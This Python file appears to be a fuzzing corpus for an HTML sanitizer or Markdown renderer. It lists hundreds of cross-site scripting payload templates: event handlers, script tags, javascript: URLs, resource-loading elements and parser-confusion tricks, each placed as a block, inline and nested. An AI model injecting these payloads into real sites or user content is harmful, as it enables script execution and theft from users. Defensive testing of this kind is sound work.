"""Raw HTML that runs, loads or leads somewhere if it is passed through."""
# HTML that runs at once, or when it is clicked, pointed at or focused. The page dispatches these events to
# every element.
HANDLERS = [
    "<img src=x onerror={0}>", "<img src=x:x onerror=\"{0}\"/>", "<IMG SRC=x ONERROR={0}>", "<img/src=x/onerror={0}>",
    "<img\nsrc=x\nonerror\n=\n{0}>", "<img src=x onerror='{0}' alt=\"", "<img srcset=x onerror={0}>",
    "<image src=x onerror={0}>", "<picture><source srcset=x><img onerror={0}></picture>",
    "<input type=image src=x onerror={0}>", "<video src=x onerror={0}></video>",
    "<video><source onerror={0} src=x></video>", "<audio src=x onerror={0}>", "<video poster=x onclick={0}>",
    "<svg onload={0}>", "<svg/onload={0}//", "<SvG oNlOaD={0}>", "<svg><script>{0}</script></svg>",
    "<svg><script href=data:,{0} /></svg>", "<svg><image href=x onerror={0}></svg>",
    "<svg><a xlink:href=\"javascript:{0}\"><text x=9 y=9>x</text></a></svg>",
    "<svg><a href=\"javascript:{0}\"><circle r=9 /></a></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s></svg>", "<svg><set onbegin={0} attributeName=x></svg>",
    "<svg><a><animate attributeName=href values=javascript:{0} /><text y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={0}></foreignObject></svg>",
    "<svg><style>{{}}</style><desc><img src=x onerror={0}></desc></svg>",
    "<svg><title><img src=x onerror={0}></title></svg>", "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<math href=\"javascript:{0}\"><mi>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={0}></annotation-xml></math>", "<body onload={0}>",
    "<body onpageshow={0}>", "<html onclick={0}>", "<details open ontoggle={0}>x</details>",
    "<details ontoggle={0}><summary>x</summary></details>", "<dialog open onfocus={0} tabindex=1>x</dialog>",
    "<input autofocus onfocus={0}>", "<textarea autofocus onfocus={0}></textarea>",
    "<select autofocus onfocus={0}></select>", "<button autofocus onfocus={0}>x</button>",
    "<p tabindex=1 autofocus onfocus={0}>x</p>", "<p contenteditable autofocus onfocusin={0}>x</p>",
    "<p onclick={0}>x</p>", "<p onmouseover={0}>x</p>", "<x onclick={0}>x</x>", "<a onclick={0}>x</a>",
    "<a href=# onclick={0}>x</a>", "<button onclick={0}>x</button>", "<label onclick={0}>x</label>",
    "<style>@keyframes k{{}}</style><p style=animation:k onanimationstart={0}>x</p>",
    "<p style=transition:1s onclick={0}>x</p>", "<marquee onstart={0}>x</marquee>", "<marquee onfinish={0} loop=1>x",
    "<iframe onload={0}></iframe>", "<object data=x onerror={0}></object>", "<embed src=/a onload={0}>",
    "<link rel=stylesheet href=x onerror={0}>", "<style onload={0}></style>", "<script src=x onerror={0}></script>",
    "<track onerror={0}>", "<table background=x onclick={0}><tr><td>x</table>", "<custom-element onclick={0}>x",
    "<form oninput={0}><input onclick={0}></form>", "<fieldset onclick={0}><legend>x</legend></fieldset>",
    "<map name=m><area onclick={0} href=# shape=default></map><img usemap=#m>", "<slot onclick={0}>x</slot>",
    "<p popover onbeforetoggle={0}>x</p>", "<noembed><img src=x onerror={0}></noembed><p onclick={0}>x</p>",
]
SCRIPTS = [
    "<script>{0}</script>", "<SCRIPT>{0}</SCRIPT>", "<script\n>{0}</script\n>", "<script/x>{0}</script>",
    "<script type=module>{0}</script>", "<script type=text/javascript>{0}</script>", "<script defer>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>", "<script>\n\n{0}\n\n</script>", "<script><!--\n{0}\n--></script>",
    "<script src=data:text/javascript,{0}></script>", "<script src=\"data:,{0}\"></script>", "<script>{0}",
    "<<script>{0}//<</script>", "<script\x00>{0}</script>", "<script\x0c>{0}</script>", "<\x00script>{0}</script>",
    "<script language=javascript>{0}</script x>", "<template><script>{0}</script></template><script>{0}</script>",
    "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
    "<xmp><p title=\"</xmp><img src=x onerror={0}>\"></xmp>",
    "<title><p title=\"</title><img src=x onerror={0}>\"></title>", "<plaintext></plaintext><img src=x onerror={0}>",
    "<div><template shadowrootmode=open><img src=x onerror={0}></template></div>",
    "<script type=importmap>{{}}</script><script>{0}</script>", "<svg><script>{0}//",
    "<math><script>{0}</script></math>",
]
ADDRESSES = [
    "<a href=javascript:{0}>x</a>", "<a href=\"java\nscript:{0}\">x</a>", "<a href=\"&#1;javascript:{0}\">x</a>",
    "<a href='java&Tab;script:{0}'>x</a>", "<a target=_self href=JAVASCRIPT:{0}>x</a>", "<area href=javascript:{0}>",
    "<iframe src=javascript:{0}></iframe>", "<iframe srcdoc=\"<script>{0}</script>\"></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror={0}&gt;'></iframe>", "<embed src=javascript:{0}>",
    "<object data=javascript:{0}>", "<frameset><frame src=javascript:{0}></frameset>",
    "<form action=javascript:{0}><input type=submit></form>",
    "<form><button formaction=javascript:{0}>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:{0}>x",
    "<form><input type=image src=x formaction=javascript:{0}></form>", "<base href=javascript:{0}//><a href=#>x</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
]
# HTML that runs nothing, but loads something or leaves the page.
LOADS = [
    "<img src={0.path}>", "<iframe src={0.path}></iframe>", "<object data={0.path}></object>", "<embed src={0.path}>",
    "<script src={0.path}></script>", "<link rel=stylesheet href={0.path}>",
    "<link rel=preload as=image href={0.path}>", "<link rel=modulepreload href={0.path}>",
    "<style>@import '{0.path}';</style>", "<style>p {{ background: url({0.path}) }}</style><p>x</p>",
    "<p style=\"background:url({0.path})\">x</p>",
    "<style>@font-face {{ font-family: f; src: url({0.path}) }} p {{ font-family: f }}</style><p>x</p>",
    "<style>li {{ list-style: url({0.path}) }}</style><ul><li>x</ul>", "<svg><image href={0.path} /></svg>",
    "<svg><use href={0.path}#x /></svg>", "<meta http-equiv=refresh content=\"0;url={0.path}\">",
    "<meta http-equiv=refresh content='0;{0.path}'>", "<base href={0.path}/><img src=x>",
    "<form action={0.path}><button>x</button></form>", "<form><button formaction={0.path}>x</button></form>",
    "<video src={0.path}></video>", "<video poster={0.path}></video>", "<audio src={0.path} preload=auto></audio>",
    "<input type=image src={0.path}>", "<a ping={0.path} href=#>x</a>", "<body background={0.path}>",
    "<table background={0.path}><tr><td>x</table>", "<a href={0.path}>x</a>", "<area href={0.path}>",
    "<a href={0.path} target=_top>x</a>", "<img srcset={0.path}>", "<picture><source srcset={0.path}><img></picture>",
    "<frameset><frame src={0.path}></frameset>", "<link rel=prefetch href={0.path}>",
    "<svg><a href={0.path}><text y=9>x</text></a></svg>", "<svg><feImage href={0.path} /></svg>",
]
# HTML that parsers of HTML and of Markdown may read differently.
ODDITIES = [
    "<!--><img src=x onerror={0}>-->", "<!---><img src=x onerror={0}>-->", "<!-- --!><img src=x onerror={0}>-->",
    "<!-- x -- y --><img src=x onerror={0}>", "<!-<img src=x onerror={0}>", "<!- -><img src=x onerror={0}>",
    "<![CDATA[><img src=x onerror={0}>]]>", "<![CDATA[x]]><img src=x onerror={0}>", "<?x ?><img src=x onerror={0}>",
    "<?xml-stylesheet href=\"javascript:{0}\"?>", "<!DOCTYPE x [<!ENTITY y \"<img src=x onerror={0}>\">]>&y;",
    "<!x><img src=x onerror={0}>", "</p x onclick={0}><p>x", "</<img src=x onerror={0}>", "<//img src=x onerror={0}>",
    "<%<img src=x onerror={0}>", "<img src=x onerror={0}", "<img src=x \"onerror={0}>", "<img src=\"x onerror={0}>",
    "<img src=x onerror={0} <b>", "<a b='c\" onclick={0}>x</a>", "<p =onclick={0}>x", "<p\u00a0onclick={0}>x",
    "<p\u3000onclick={0}>x", "<img\x0bsrc=x\x0bonerror={0}>", "<ımg src=x onerror={0}>", "<\uff49mg src=x onerror={0}>",
    "＜img src=x onerror={0}＞", "‹img src=x onerror={0}›", "\\<img src=x onerror={0}>", "\\\\<img src=x onerror={0}>",
    "&lt;img src=x onerror={0}&gt;", "&#60;img src=x onerror={0}&#62;", "&#x3c;img src=x onerror={0}>",
    "&lt<img src=x onerror={0}>", "&amp;lt;img src=x onerror={0}&amp;gt;", "&LT;img src=x onerror={0}&GT;",
    "\\x3cimg src=x onerror={0}\\x3e", "\\u003cimg src=x onerror={0}\\u003e", "%3Cimg src=x onerror={0}%3E",
    "<*img* src=x onerror={0}>", "<`img` src=x onerror={0}>", "`<img src=x onerror={0}>`",
    "`` ` <img src=x onerror={0}> ``", "<img `src=x onerror={0}>`", "*<img src=x* onerror={0}>",
    "[<img src=x onerror={0}](/a)>", "![<img src=x onerror={0}>](a.png)", "![](a.png '<img src=x onerror={0}>')",
    "<img src=x\n\nonerror={0}>", "<img src=x\n> onerror={0}>", "<b\n# onclick={0}>\nx",
    "<p title='\n\n' onclick={0}>x", "- <img\n- src=x onerror={0}>", "<div\n=\nonclick={0}>x</div>",
    "<pre>\n\n<img src=x onerror={0}>\n</pre>", "<textarea>\n\n</textarea><img src=x onerror={0}>",
    "<!--\n\n--><img src=x onerror={0}>", "<?\n\n?><img src=x onerror={0}>",
    "<style>\n\n</style><img src=x onerror={0}>", "<a\u2028href=javascript:{0}>x</a>",
]


def everywhere(forms):
    """Yields each as a block, within a line, and deeper in a document."""
    for form in forms:
        yield form.format
        yield f"x {form} y".format
        yield ("> - " + form.replace("\n", "\n>   ")).format


FAMILIES = {
    "elements with handlers": lambda: everywhere(HANDLERS),
    "scripts": lambda: everywhere(SCRIPTS),
    "elements with addresses": lambda: everywhere(ADDRESSES),
    "elements that load": lambda: everywhere(LOADS),
    "markup that parsers disagree on": lambda: everywhere(ODDITIES),
}
